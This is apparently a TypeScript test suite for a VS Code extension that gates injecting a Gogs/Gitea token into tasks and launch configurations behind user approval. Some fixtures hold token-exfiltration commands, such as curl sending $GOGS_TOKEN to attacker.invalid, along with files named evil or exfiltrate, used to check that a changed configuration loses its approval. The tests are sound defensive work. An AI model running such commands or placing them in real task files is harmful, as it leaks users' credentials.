import * as assert from 'node:assert/strict';
import {
  APPROVALS_STATE_KEY,
  ApprovalStore,
  approvalKey,
  canonicalJson,
  classifyUses,
  ConfigSource,
  describeCall,
  sourceFromSection,
  TOKEN_VARIABLE,
} from '../../../src/inject/approvals';
import { MemoryMemento } from '../../support/memoryBackends';

const task = (label: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  label,
  type: 'shell',
  command: './deploy.sh',
  options: { env: { GOGS_TOKEN: TOKEN_VARIABLE } },
  ...extra,
});
const tasks = (...items: unknown[]): ConfigSource => ({ kind: 'tasks', items, inputs: [] });

describe('inject/approvals', () => {
  describe('canonicalJson', () => {
    it('does not depend on key order and drops VS Code bookkeeping keys', () => {
      assert.equal(canonicalJson({ b: 1, a: { d: [1, { y: 2, x: 1 }], c: 3 } }), canonicalJson({ a: { c: 3, d: [1, { x: 1, y: 2 }] }, b: 1, __configurationTarget: 5 }));
    });
  });

  describe('approval keys', () => {
    it('are SHA-256 hex and differ by configuration and by env var', () => {
      const k = approvalKey('{"a":1}', 'GOGS_TOKEN');
      assert.match(k, /^[0-9a-f]{64}$/);
      assert.equal(k, approvalKey('{"a":1}', 'GOGS_TOKEN'));
      assert.notEqual(k, approvalKey('{"a":2}', 'GOGS_TOKEN'));
      assert.notEqual(k, approvalKey('{"a":1}', 'GITEA_TOKEN'));
    });

    it('for a launch configuration: same config in another key order → same key; changed program → new key', () => {
      const cfg = { type: 'node', request: 'launch', name: 'Deploy', program: 'a.js', env: { GOGS_TOKEN: TOKEN_VARIABLE } };
      const same = { env: { GOGS_TOKEN: TOKEN_VARIABLE }, program: 'a.js', name: 'Deploy', request: 'launch', type: 'node', __sessionId: 'x' };
      const changed = { ...cfg, program: 'evil.js' };
      const d1 = describeCall(cfg, []);
      assert.equal(d1.via, 'launch');
      assert.equal(d1.label, 'launch configuration "Deploy"');
      assert.deepEqual(d1.envKeys, ['GOGS_TOKEN']);
      assert.equal(approvalKey(d1.identity, 'GOGS_TOKEN'), approvalKey(describeCall(same, []).identity, 'GOGS_TOKEN'));
      assert.notEqual(d1.identity, describeCall(changed, []).identity);
    });

    it('for a task: VS Code passes only the variables, so the tasks that use the variable are the identity', () => {
      const vars = [TOKEN_VARIABLE, '/abs/workspace'];
      const before = describeCall(vars, [tasks(task('deploy'), { label: 'lint', type: 'shell', command: 'eslint .' })]);
      assert.equal(before.via, 'task');
      assert.equal(before.label, 'task "deploy"');
      assert.deepEqual(before.envKeys, ['GOGS_TOKEN']);
      // A pull that changes the task's command is a new configuration...
      const after = describeCall(vars, [tasks(task('deploy', { command: 'curl -d @- https://attacker.invalid' }))]);
      assert.notEqual(before.identity, after.identity);
      // ...an unrelated task is not.
      const unrelated = describeCall(vars, [tasks(task('deploy'), { label: 'lint', type: 'shell', command: 'eslint --fix .' })]);
      assert.equal(before.identity, unrelated.identity);
      // Resolved (non-variable) entries do not change it.
      assert.equal(before.identity, describeCall([TOKEN_VARIABLE, '/elsewhere'], [tasks(task('deploy'))]).identity);
    });

    it('for an input of type command: the args name the token and the configurations using the input are the identity', () => {
      const src: ConfigSource = {
        kind: 'launch',
        items: [{ type: 'node', request: 'launch', name: 'Run', env: { GITEA_TOKEN: '${input:giteaToken}' } }],
        inputs: [{ id: 'giteaToken', type: 'command', command: 'gogsKeyHygiene.tokenValue', args: { token: 'GITEA_TOKEN' } }],
      };
      const d = describeCall({ token: 'GITEA_TOKEN' }, [src]);
      assert.equal(d.via, 'input');
      assert.equal(d.explicitToken, 'GITEA_TOKEN');
      assert.equal(d.label, 'launch configuration "Run"');
      assert.deepEqual(d.envKeys, ['GITEA_TOKEN']);
      const other = describeCall({ token: 'GITEA_TOKEN' }, [{ ...src, items: [{ ...(src.items[0] as object), program: 'other.js' }] }]);
      assert.notEqual(d.identity, other.identity);
    });

    it('a direct call (panel, another extension) is its own identity', () => {
      const d = describeCall('some-id', []);
      assert.equal(d.via, 'direct');
      assert.equal(d.explicitToken, 'some-id');
      assert.notEqual(d.identity, describeCall('other-id', []).identity);
    });
  });

  describe('placement', () => {
    it('accepts env blocks (tasks options.env, launch env, cppdbg environment) and names the env var', () => {
      assert.deepEqual(classifyUses(task('t'), TOKEN_VARIABLE), { envKeys: ['GOGS_TOKEN'], misplaced: [] });
      assert.deepEqual(classifyUses({ env: { A: `prefix-${TOKEN_VARIABLE}` } }, TOKEN_VARIABLE).envKeys, ['A']);
      assert.deepEqual(classifyUses({ environment: [{ name: 'GOGS_TOKEN', value: TOKEN_VARIABLE }] }, TOKEN_VARIABLE), {
        envKeys: ['GOGS_TOKEN'],
        misplaced: [],
      });
    });

    it('refuses the variable in command, args or an env key name', () => {
      const bad = task('push', { command: `git push https://u:${TOKEN_VARIABLE}@h/r.git`, args: ['--token', TOKEN_VARIABLE] });
      const d = describeCall([TOKEN_VARIABLE], [tasks(bad)]);
      assert.deepEqual(d.misplaced, ['task "push" → command', 'task "push" → args[1]']);
      assert.deepEqual(classifyUses({ env: { [TOKEN_VARIABLE]: 'x' } }, TOKEN_VARIABLE).misplaced, ['env.' + TOKEN_VARIABLE + '.{key}']);
      const launch = describeCall({ type: 'node', request: 'launch', name: 'L', runtimeArgs: [TOKEN_VARIABLE] }, []);
      assert.deepEqual(launch.misplaced, ['launch configuration "L" → runtimeArgs[0]']);
    });
  });

  describe('effective task configuration (top-level keys, OS overrides, inputs)', () => {
    const vars = [TOKEN_VARIABLE, '/abs/workspace'];
    const where = '.vscode/tasks.json';
    const deploy = task('deploy');
    const scripts = { label: 'new task', type: 'shell', command: 'curl -d "$GOGS_TOKEN" https://attacker.invalid' };
    const file = (globals: Record<string, unknown>, ...items: unknown[]): ConfigSource => ({ kind: 'tasks', where, items, inputs: [], globals: { version: '2.0.0', ...globals } });

    it('a top-level options.env asks for every task of the file: a new task there is a new configuration, named in the prompt', () => {
      const approved = describeCall(vars, [file({}, deploy)]);
      const pulled = describeCall(vars, [file({ options: { env: { GOGS_TOKEN: TOKEN_VARIABLE } } }, deploy, scripts)]);
      assert.notEqual(pulled.identity, approved.identity, 'the pulled change reuses the approval of "deploy"');
      assert.equal(pulled.via, 'task');
      assert.deepEqual(pulled.misplaced, []);
      assert.deepEqual(pulled.envKeys, ['GOGS_TOKEN']);
      assert.match(pulled.label, /every task of \.vscode\/tasks\.json \(top-level keys\)/);
      assert.match(pulled.label, /task "new task"/);
      assert.ok(
        pulled.asks.some((a) => a.startsWith(`${where}: top level → options.env.GOGS_TOKEN`) && a.includes('"new task"')),
        `the prompt names the file, the top-level key and the task it reaches: ${pulled.asks.join(' | ')}`,
      );
      // Changing the task that does not mention the variable is a new configuration too, now.
      const edited = describeCall(vars, [file({ options: { env: { GOGS_TOKEN: TOKEN_VARIABLE } } }, deploy, { ...scripts, command: 'true' })]);
      assert.notEqual(edited.identity, pulled.identity);
    });

    it('refuses the variable in the top-level command/args and in OS overrides outside an env block', () => {
      const topArgs = describeCall(vars, [file({ command: 'git', args: ['push', `https://u:${TOKEN_VARIABLE}@h/r.git`] }, { label: 'push' })]);
      assert.deepEqual(topArgs.misplaced, [`${where}: top level → args[1]`]);
      const topCommand = describeCall(vars, [file({ command: `echo ${TOKEN_VARIABLE}` }, deploy)]);
      assert.ok(topCommand.misplaced.includes(`${where}: top level → command`), topCommand.misplaced.join(' | '));
      const osTop = describeCall(vars, [file({ linux: { args: [TOKEN_VARIABLE] } }, deploy)]);
      assert.deepEqual(osTop.misplaced, [`${where}: top level → linux.args[0]`]);
      const osTask = describeCall(vars, [file({}, task('deploy', { linux: { command: `deploy --token ${TOKEN_VARIABLE}` } }))]);
      assert.deepEqual(osTask.misplaced, [`task "deploy" (${where}) → linux.command`]);
      // An env block inside an OS override is an env block.
      const osEnv = describeCall(vars, [file({ linux: { options: { env: { GITEA_TOKEN: TOKEN_VARIABLE } } } }, deploy)]);
      assert.deepEqual(osEnv.misplaced, []);
      assert.deepEqual([...osEnv.envKeys].sort(), ['GITEA_TOKEN', 'GOGS_TOKEN']);
      // A task's own "env" (not options.env) is not where VS Code takes the environment from.
      assert.deepEqual(describeCall(vars, [file({}, { label: 'odd', type: 'shell', command: 'x', env: { T: TOKEN_VARIABLE } })]).misplaced, [
        `task "odd" (${where}) → env.T`,
      ]);
    });

    it('binds the approval to the OS override that replaces a task, to the inputs and to the settings the tasks read', () => {
      const base = describeCall(vars, [file({}, deploy)]);
      const replaced = describeCall(vars, [file({ linux: { tasks: [{ label: 'deploy', type: 'shell', command: 'curl https://attacker.invalid' }] } }, deploy)]);
      assert.notEqual(replaced.identity, base.identity, 'linux.tasks replaces "deploy" by label');
      const withInput = (def: string): ConfigSource => ({ ...file({}, task('deploy', { args: ['${input:target}'] })), inputs: [{ id: 'target', type: 'promptString', default: def }] });
      assert.notEqual(describeCall(vars, [withInput('prod')]).identity, describeCall(vars, [withInput('attacker.invalid')]).identity);
      const reads = [file({}, task('deploy', { command: './deploy.sh ${config:deploy.target}' }))];
      const a = describeCall(vars, reads, { configValue: () => 'prod' });
      const b = describeCall(vars, reads, { configValue: () => 'attacker.invalid' });
      assert.notEqual(a.identity, b.identity, 'a workspace setting the task reads is part of the identity');
      const env1 = describeCall(vars, [file({}, deploy)], { environment: {} });
      const env2 = describeCall(vars, [file({}, deploy)], { environment: { automationProfile: { linux: { path: '/tmp/evil-shell' } } } });
      assert.notEqual(env1.identity, env2.identity, 'workspace terminal settings (the shell tasks run in) are part of the identity');
    });

    it('sourceFromSection splits a whole tasks.json / launch.json', () => {
      const src = sourceFromSection('tasks', where, { version: '2.0.0', options: { cwd: 'x' }, tasks: [deploy], inputs: [{ id: 'i' }] });
      assert.deepEqual(src, { kind: 'tasks', where, items: [deploy], inputs: [{ id: 'i' }], globals: { version: '2.0.0', options: { cwd: 'x' } } });
      const launch = sourceFromSection('launch', '.vscode/launch.json', { version: '0.2.0', configurations: [{ name: 'L' }], compounds: [] });
      assert.deepEqual(launch?.items, [{ name: 'L' }]);
      assert.deepEqual(launch?.globals, { version: '0.2.0', compounds: [] });
      assert.equal(sourceFromSection('tasks', where, undefined), undefined);
    });

    it('a launch configuration: inputs it references and the file it comes from', () => {
      const cfg = { type: 'node', request: 'launch', name: 'Run', env: { GOGS_TOKEN: TOKEN_VARIABLE }, program: '${input:prog}' };
      const src = (def: string): ConfigSource => ({ kind: 'launch', where: '.vscode/launch.json', items: [cfg], inputs: [{ id: 'prog', type: 'promptString', default: def }] });
      const a = describeCall(cfg, [src('run.js')]);
      assert.equal(a.label, 'launch configuration "Run" (.vscode/launch.json)');
      assert.deepEqual(a.asks, ['launch configuration "Run" (.vscode/launch.json) → env.GOGS_TOKEN']);
      assert.notEqual(a.identity, describeCall(cfg, [src('exfiltrate.js')]).identity, 'the definition of an input it uses is part of it');
    });
  });

  describe('who is calling: the __ keys VS Code adds, direct calls', () => {
    const launch = { type: 'node', request: 'launch', name: 'Deploy', program: 'a.js', env: { GOGS_TOKEN: TOKEN_VARIABLE } };

    it('drops only the keys VS Code adds to a launch configuration; any other __ key is part of it', () => {
      const id = describeCall(launch, []).identity;
      assert.equal(describeCall({ ...launch, __configurationTarget: 6, __sessionId: 'abc', __restart: { x: 1 } }, []).identity, id);
      assert.notEqual(describeCall({ ...launch, __debugServerArgs: '--inspect-brk' }, []).identity, id, 'an attacker-set __ key reaches the debug adapter');
      assert.notEqual(describeCall({ ...launch, __autoAttach: true }, []).identity, id);
    });

    it('a call that VS Code did not make never matches, and is never remembered like, a task or launch approval', () => {
      const sources = [tasks(task('deploy'))];
      const vars = [TOKEN_VARIABLE, '/abs/workspace'];
      const fromTask = describeCall(vars, sources, { origin: 'workbench' });
      const fromExtension = describeCall(vars, sources, { origin: 'extension' });
      assert.equal(fromTask.rememberable, true);
      assert.equal(fromExtension.via, 'direct');
      assert.equal(fromExtension.rememberable, false);
      assert.notEqual(approvalKey(fromExtension.identity, 'GOGS_TOKEN'), approvalKey(fromTask.identity, 'GOGS_TOKEN'));
      assert.match(fromExtension.label, /direct call .* by an extension .*looks like task "deploy"/);
      const launchFromExtension = describeCall(launch, [], { origin: 'extension' });
      assert.equal(launchFromExtension.via, 'direct');
      assert.notEqual(launchFromExtension.identity, describeCall(launch, []).identity);
      // Still refused where it would go onto a command line.
      assert.deepEqual(describeCall({ ...launch, args: [TOKEN_VARIABLE] }, [], { origin: 'extension' }).misplaced, ['launch configuration "Deploy" → args[0]']);
      // A direct call with no recognisable argument is not remembered either.
      assert.equal(describeCall(undefined, sources).rememberable, false);
    });
  });

  describe('ApprovalStore', () => {
    it('remembers keys in workspaceState, never anything else, and forgets them all', async () => {
      const memento = new MemoryMemento();
      const store = new ApprovalStore(memento);
      const k = approvalKey('x', 'GOGS_TOKEN');
      assert.equal(store.has(k), false);
      await store.add(k);
      await store.add(k);
      assert.equal(store.has(k), true);
      assert.deepEqual(memento.data.get(APPROVALS_STATE_KEY), [k]);
      assert.equal(await store.clear(), 1);
      assert.equal(store.has(k), false);
      assert.equal(store.size, 0);
    });
  });
});
